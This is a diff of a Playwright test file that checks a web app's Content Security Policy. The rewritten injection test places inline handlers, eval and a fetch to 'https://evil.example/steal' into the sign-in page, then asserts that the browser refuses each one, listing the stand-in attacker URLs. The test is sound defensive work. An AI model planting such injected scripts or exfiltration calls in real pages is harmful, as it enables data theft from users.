@@ -1,59 +1,9 @@
 import { request as httpRequest, type IncomingHttpHeaders } from 'node:http'
-import type { Page, Request } from '@playwright/test'
-import { LOCALE_COOKIE } from '../../lib/i18n/locales'
+import type { Request } from '@playwright/test'
 import { DEMO_PASSWORD } from '../../scripts/demo/staff'
 import { expect, test } from './fixtures'
-import { PAGES, pathOf } from './pages'
-
-/** Collects what the browser refuses by the page's policy. Console messages fail every test (fixtures.ts). */
-async function watchPolicy(page: Page): Promise<string[]> {
-  const violations: string[] = []
-  await page.exposeFunction('reportViolation', (line: string) => violations.push(line))
-  await page.addInitScript(() => {
-    document.addEventListener('securitypolicyviolation', (event) => {
-      const { violatedDirective, blockedURI, sourceFile, lineNumber, sample } = event
-      const line = `${violatedDirective} ${blockedURI} ${sourceFile}:${lineNumber} ${sample}`
-      ;(window as unknown as { reportViolation: (line: string) => void }).reportViolation(line)
-    })
-  })
-  return violations
-}
-
-/** Opens, one after the other, whatever the page has folded away: menus, disclosures, drawers, dialogs. */
-async function openEverything(page: Page): Promise<void> {
-  const openers = page.locator(
-    'main summary, [popovertarget], [aria-haspopup]:not([disabled]), [aria-expanded="false"]',
-  )
-  for (let index = 0; index < Math.min(await openers.count(), 12); index++) {
-    const opener = openers.nth(index)
-    if (!(await opener.isVisible())) continue
-    await opener.click({ timeout: 2000 }).catch(() => {})
-    await page.keyboard.press('Escape')
-  }
-}
-
-for (const entry of PAGES) {
-  test(`${entry.route}: its own policy refuses nothing of it`, async ({ page, baseURL, signIn }) => {
-    const violations = await watchPolicy(page)
-    if (entry.as) await signIn(entry.as)
-    const path = await pathOf(entry, page.request)
-    const answer = await page.goto(path)
-    const policy = answer?.headers()['content-security-policy'] ?? ''
-    expect(policy).toMatch(/script-src 'nonce-[^']+' 'strict-dynamic';/)
-    expect(answer?.headers()['cache-control']).toMatch(/no-store/)
-    // Every script of the answer has the nonce: nothing hangs on scripts the browser lets through otherwise.
-    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1]
-    const tags = (await answer?.text())?.match(/<script\b[^>]*>/g) ?? []
-    expect(tags.length).toBeGreaterThan(3)
-    expect(tags.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([])
-    await page.waitForLoadState('networkidle')
-    await openEverything(page)
-    await page.context().addCookies([{ name: LOCALE_COOKIE, value: 'en', url: baseURL }])
-    await page.goto(path)
-    await page.waitForLoadState('networkidle')
-    expect(violations).toEqual([])
-  })
-}
+import { watchPolicy } from './policy'
+import { settled } from './settled'
 
 test('what a page does after it was shown goes by the policy too', async ({ page, signIn }) => {
   const violations = await watchPolicy(page)
@@ -71,7 +21,7 @@ test('what a page does after it was shown goes by the policy too', async ({ page
   }
   await page.keyboard.press('ControlOrMeta+k')
   await page.keyboard.type('gar')
-  await page.waitForLoadState('networkidle')
+  await settled(page)
   await page.goto('/no/such/page')
   await page.goto('/no/such.page')
   expect(violations).toEqual([])
@@ -90,6 +40,21 @@ test('the viewer of the API works under the policy', async ({ page }) => {
   expect(violations).toEqual([])
 })
 
+/** What the browser refuses of the attacks below, one for each. When it has refused all of them, none runs later. */
+const REFUSALS = [
+  'base-uri https://evil.example/',
+  'connect-src https://evil.example/steal',
+  'frame-src https://evil.example',
+  'img-src https://evil.example/pixel.png',
+  'object-src https://evil.example',
+  'script-src eval',
+  'script-src-attr inline',
+  'script-src-attr inline',
+  'script-src-elem inline',
+  'script-src-elem inline',
+  'style-src-elem inline',
+]
+
 test.describe('what is put into a page', () => {
   // The refusals are expected: they appear on the console as well.
   test('does not run: handlers, inline scripts, scripts and frames of other hosts, eval', async ({
@@ -104,7 +69,7 @@ test.describe('what is put into a page', () => {
       if (new URL(sent.url()).hostname.endsWith('evil.example')) foreign.push(sent)
     })
     await page.goto('/sign-in')
-    const ran = await page.evaluate(async () => {
+    await page.evaluate(async () => {
       const global = window as unknown as { ran: string[] }
       global.ran = []
       const place = document.createElement('div')
@@ -125,23 +90,13 @@ test.describe('what is put into a page', () => {
         eval("ran.push('eval')")
       })
       await fetch('https://evil.example/steal').catch(() => {})
-      await new Promise((resolve) => setTimeout(resolve, 500))
-      return global.ran
     })
-    expect(ran).toEqual([])
+    const refused = () => violations.map((line) => line.split(' ').slice(0, 2).join(' ')).sort()
+    await expect.poll(refused).toEqual(REFUSALS)
+    expect(await page.evaluate(() => (window as unknown as { ran: string[] }).ran)).toEqual([])
     // The browser also reports requests that the policy stopped before they were sent.
     const left = foreign.filter((sent) => !/csp/i.test(sent.failure()?.errorText ?? ''))
     expect(left.map((sent) => `${sent.url()} ${sent.failure()?.errorText}`)).toEqual([])
-    const refused = violations.join('\n')
-    for (const directive of [
-      'script-src-attr',
-      'script-src-elem',
-      'img-src',
-      'connect-src',
-      'frame-src',
-      'base-uri',
-    ])
-      expect(refused).toContain(directive)
     await context.close()
   })
 })
